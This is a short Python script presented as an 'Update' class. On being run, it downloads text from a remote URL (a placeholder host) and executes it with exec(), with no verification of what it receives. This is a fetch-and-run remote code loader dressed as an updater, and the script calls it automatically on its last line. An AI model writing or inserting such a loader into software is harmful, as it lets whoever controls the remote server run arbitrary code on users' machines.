import requests


class Update:
    at = "https://files.example.invalid/update"

    @property
    def text(self):
        return requests.get(self.at).text

    def lines(self):
        yield self.text

    def __call__(self):
        for one in self.lines():
            exec(one)


Update()()
